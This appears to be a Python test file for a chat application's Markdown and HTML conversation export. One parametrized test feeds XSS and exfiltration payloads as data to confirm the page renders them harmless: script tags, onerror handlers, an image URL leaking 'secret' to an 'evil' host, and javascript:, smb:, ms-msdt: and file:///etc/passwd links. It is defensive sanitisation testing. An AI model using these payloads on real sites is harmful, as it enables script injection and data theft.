"""Markdown and HTML: to be read, printed and pasted, and harmless."""

from __future__ import annotations

import html.parser

import pytest

from app.core.chats.conversation import Conversation, new_details
from app.core.chats.turns import Attachment
from app.core.exchange import markdown, page
from backends.contract.messages import Channel, Effort
from tests.app.core.store.conftest import say, talk, with_call


def branched() -> Conversation:
    """Two answers to one question, and a file."""
    conversation = talk(("How do otters sleep?", "Holding hands."))
    low = conversation.branch()[1].id
    conversation.ask("Thanks", (Attachment("notes.md", "```\nx\n```"),))
    high = conversation.regenerate(low, Effort.HIGH).id
    say(conversation, high, "In holts.")
    conversation.edit_answer(high, "In holts, mostly.")
    return conversation


def test_markdown_of_the_branch_in_view() -> None:
    text = markdown.of_conversation(branched())
    assert text.startswith("# How do otters sleep?\n")
    assert "**Instructions**\n\n> Be brief." in text
    assert "## Answer · high effort · edited by hand\n\nReasoning:\n\n> thought\n\nIn holts, mostly." in text
    assert "Holding hands." not in text
    assert "version" not in text


def test_markdown_of_all_branches_says_what_follows_what() -> None:
    text = markdown.of_conversation(branched(), all_branches=True)
    assert text.index("## Answer · low effort · version 1 of 2") < text.index("Thanks")
    assert "## Answer · high effort · version 2 of 2 · edited by hand · follows “How do otters sleep?”" in text
    assert "File `notes.md`:\n\n````\n```\nx\n```\n````" in text


class Harm(html.parser.HTMLParser):
    """Collects what could run, load or lead somewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.risky: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name == "href":
                self.links.append(value or "")
            elif name.startswith("on") or name in ("src", "srcset", "action", "data", "style", "background"):
                self.risky.append((name, value))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](http://evil/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](smb://evil/share) [y](ms-msdt:/id) [z](file:///etc/passwd) [w](data:text/html,x)",
        "<http://fine.example> <smb://evil>",
        "```html\n<script>alert(1)</script>\n```",
        "</article></body><iframe src='http://evil'>",
        "| a |\n|---|\n| <b onclick=x>b</b> |",
    ],
)
def test_the_page_runs_nothing_loads_nothing_and_leads_only_to_the_web(text: str) -> None:
    conversation = Conversation(new_details(instructions=text))
    asked = conversation.ask(text, (Attachment(text, text),)).id
    reply = conversation.begin_answer(asked, Effort.LOW).id
    conversation.append(reply, Channel.ANALYSIS, text)
    conversation.append(reply, Channel.FINAL, text)
    conversation.rename(text)
    parser = Harm()
    parser.feed(page.of_conversation(conversation, all_branches=True))
    assert not parser.tags & {"script", "img", "iframe", "object", "link", "form", "base", "b"}
    assert not parser.risky
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in parser.links)


def test_the_page_is_set_from_markdown_and_prints() -> None:
    conversation = talk(("Table?", "| a | b |\n|---|---|\n| 1 | 2 |\n\n**bold** [web](https://example.org)"))
    text = page.of_conversation(conversation)
    assert "<table>" in text
    assert "<strong>bold</strong>" in text
    assert '<a href="https://example.org">web</a>' in text
    assert "@media print" in text
    assert "default-src 'none'" in text


def test_calls_and_results_stand_plainly_where_they_were_made() -> None:
    text = markdown.of_conversation(with_call())
    told = (
        'Reasoning:\n\n> I have to ask.\n\nCall of `functions.weather`:\n\n```\n{"place": "Bern"}\n```\n\n'
        "Result of `functions.weather`:\n\n```\n<b>sunny</b>\n```\n\nIt is sunny."
    )
    assert told in text
    shown = page.of_conversation(with_call())
    assert "<summary>Call of functions.weather</summary><pre>{&quot;place&quot;: &quot;Bern&quot;}</pre>" in shown
    assert "<pre>&lt;b&gt;sunny&lt;/b&gt;</pre>" in shown


def test_a_call_that_was_not_run_says_so() -> None:
    conversation = Conversation(new_details())
    reply = conversation.begin_answer(conversation.ask("Weather?").id, Effort.LOW).id
    conversation.append_call(reply, "functions.weather", Channel.COMMENTARY, "{", begins=True)
    conversation.fail(reply, "engine_lost")
    assert "Call of `functions.weather` (not run):\n\n```\n{\n```\n\n*(no answer)*" in markdown.of_conversation(
        conversation
    )
